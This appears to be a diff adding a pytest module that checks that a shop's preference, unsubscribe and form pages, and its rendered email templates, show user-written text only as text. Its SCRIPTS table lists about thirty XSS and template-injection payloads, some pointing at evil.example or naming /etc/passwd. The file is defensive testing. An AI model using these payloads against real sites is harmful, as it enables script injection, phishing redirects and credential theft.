@@ -1,0 +1,171 @@
+"""What people write about themselves, and shops about their goods, is text wherever it is shown."""
+
+from collections.abc import Callable, Mapping
+from html.parser import HTMLParser
+from typing import Any
+
+import pytest
+
+from functions.preferences.app import handler as preferences
+from functions.trigger_form.app import handler as trigger_form
+from functions.unsubscribe.app import handler as unsubscribe
+from milepost.domain.events import contact_id
+from milepost.domain.templates.compile import compile_template
+from milepost.domain.templates.rendering import Renderer
+from milepost.domain.templates.versions import TemplateVersion
+from milepost.domain.tokens import Preferences, seal_preferences
+from tests.support.builders import send, workflow
+from tests.support.builders import shop as files_of
+from tests.support.cloud import EMAIL, Cloud, Shop
+from tests.support.handlers import run, tell, upload
+from tests.support.visitors import form_post, look, press
+
+Json = dict[str, Any]
+Skeleton = list[tuple[str, tuple[str, ...]]]
+
+SCRIPTS = {
+    "script": "<script>alert(1)</script>",
+    "script with a source": "<script src=//evil.example/x.js></script>",
+    "upper case": "<SCRIPT>alert(1)</SCRIPT>",
+    "nested": "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "image": "<img src=x onerror=alert(1)>",
+    "slashes for blanks": "<img/src=x/onerror=alert(1)>",
+    "SVG": "<svg onload=alert(1)>",
+    "MathML": "<math><mtext></mtext><mglyph><style><!--</style><img title='--><img src onerror=a>'>",
+    "out of an attribute": '" onmouseover="alert(1)',
+    "out of a quoted attribute": "' autofocus onfocus='alert(1)",
+    "out of an attribute without quotes": "x onmouseover=alert(1)",
+    "out of an element": '"><script>alert(1)</script>',
+    "out of a title": "</title><script>alert(1)</script>",
+    "out of a style": "</style><script>alert(1)</script>",
+    "out of a textarea": "</textarea><script>alert(1)</script>",
+    "out of a comment": "--><script>alert(1)</script><!--",
+    "CDATA": "<![CDATA[<script>alert(1)</script>]]>",
+    "processing instruction": "<?xml-stylesheet href='javascript:alert(1)'?>",
+    "iframe": "<iframe srcdoc='<script>alert(1)</script>'>",
+    "form": "<form action=https://evil.example><input name=password>",
+    "base": "<base href=https://evil.example/>",
+    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+    "style sheet": "<link rel=stylesheet href=https://evil.example>",
+    "expression": "<p style='background:url(javascript:alert(1))'>",
+    "backquotes": "`onmouseover=alert(1)`",
+    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "entities twice": "&amp;lt;script&amp;gt;",
+    "UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    "half a tag": "<script",
+    "NUL in a tag": "<scr\x00ipt>alert(1)</scr\x00ipt>",
+    "full-width brackets": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
+    "template": "{{ 7*7 }}{% include '/etc/passwd' %}${7*7}",
+    "right-to-left override": "\u202e<script>",
+}
+
+HARMLESS = "Anna"
+
+
+class Reader(HTMLParser):
+    """The tags of a page and the names of their attributes: what of it is markup."""
+
+    def __init__(self, page: str) -> None:
+        super().__init__()
+        self.seen: Skeleton = []
+        self.feed(page)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.seen.append((tag, tuple(sorted(name for name, _ in attrs))))
+
+    def handle_comment(self, data: str) -> None:
+        self.seen.append(("comment", ()))
+
+    def handle_pi(self, data: str) -> None:
+        self.seen.append(("pi", ()))
+
+    def unknown_decl(self, data: str) -> None:
+        self.seen.append(("declaration", ()))
+
+
+def skeleton(page: str) -> Skeleton:
+    return Reader(page).seen
+
+
+def pages(cloud: Cloud, text: str) -> Mapping[str, str]:
+    """All pages of a store in which everything that anybody may write holds this text."""
+    shop = cloud.open_shop()
+    visit = workflow(
+        {"id": "wait", "type": "delay_until", "date": "contact.properties.next_visit",
+         "movable": {"en": text[:60]}},
+        send("reminder"), on="Visited", category="transactional",
+    )  # fmt: skip
+    upload(shop, files_of(visit=visit))
+    form = {"topics": ["news"], "wording": {"en": text}, "double_opt_in": True}
+    shop.settings(
+        name=text, topics={"offers": text, "news": text}, postal_address=text,
+        topic_titles={"en": {"offers": text}}, forms={"footer": form},
+    )  # fmt: skip
+    properties = {"next_visit": "2031-05-01", "note": text}
+    yes = {"topic": "offers", "state": "granted", "at": "2026-01-01T00:00:00Z"}
+    person = {"email": EMAIL, "first_name": text[:200], "properties": properties, "consent": [yes]}
+    tell(shop, "Visited", {"note": text}, contact=person)
+    run(shop, "visit", "wait")
+    contact = contact_id(shop.store, "email", EMAIL)
+    wish = seal_preferences(Preferences(shop.store, contact, f"{contact}-{'1' * 24}"), shop.links)
+    no = shop.token(contact)
+
+    def shown(handler: Callable[[Any, Any], Any], request: Json) -> str:
+        answer = handler(request, None)
+        assert answer["headers"]["content-type"].startswith("text/html"), answer
+        assert "default-src 'none'" in answer["headers"]["content-security-policy"]
+        assert answer["headers"]["x-content-type-options"] == "nosniff"
+        return str(answer["body"])
+
+    return {
+        "preferences": shown(preferences, look(shop, wish)),
+        "saved": shown(preferences, press(shop, wish, {"do": text, "reminder": text, "date": text})),
+        "unsubscribe": shown(unsubscribe, look(shop, no)),
+        "unsubscribed": shown(unsubscribe, press(shop, no, {"scope": text})),
+        "form": shown(trigger_form, form_post(shop, email=EMAIL, first_name=text, locale=text)),
+        "no address": shown(trigger_form, form_post(shop, email=text)),
+        "no link": shown(unsubscribe, look(shop, text)),
+    }
+
+
+@pytest.fixture(scope="module")
+def plain(cloud: Cloud) -> Mapping[str, Skeleton]:
+    return {name: skeleton(page) for name, page in pages(cloud, HARMLESS).items()}
+
+
+@pytest.mark.parametrize("how", SCRIPTS)
+def test_no_page_runs_what_somebody_wrote(
+    cloud: Cloud, plain: Mapping[str, Skeleton], how: str
+) -> None:
+    shown = pages(cloud, SCRIPTS[how])
+    assert {name: skeleton(page) for name, page in shown.items()} == plain
+
+
+BODY = (
+    '<html><body><h1 title="{{ event.note }}">{{ event.note }}</h1>'
+    "<p title='{{ contact.first_name|default(1) }}'>{{ contact.properties.note|default(1) }}</p>"
+    '<a href="{{ event.note }}">{{ store.name }}</a>'
+    '<img src="{{ event.note }}" alt="{{ event.note }}" width="10">'
+    "{% for product in event.products %}<p>{{ product.name|upper }}</p>{% endfor %}"
+    '<p>{{ store.postal_address }} <a href="{{ urls.unsubscribe }}">x</a></p></body></html>'
+)
+
+
+def mail(text: str) -> str:
+    files = {"subject.txt": "Hi {{ event.note }}", "preheader.txt": "{{ event.note }}",
+             "body.html": BODY}  # fmt: skip
+    made = compile_template("test/mail", files, {}, "en", ["en"])
+    assert isinstance(made, TemplateVersion), made
+    context = {
+        "contact": {"first_name": text, "properties": {"note": text}},
+        "event": {"note": text, "products": [{"name": text}, {"name": text}]},
+        "store": {"name": text, "postal_address": text},
+        "urls": {"unsubscribe": "https://api.example/u"},
+    }
+    return Renderer(made).render(context, "en").html
+
+
+@pytest.mark.parametrize("how", SCRIPTS)
+def test_no_mail_holds_markup_that_came_with_its_data(how: str) -> None:
+    assert skeleton(mail(SCRIPTS[how])) == skeleton(mail(HARMLESS))
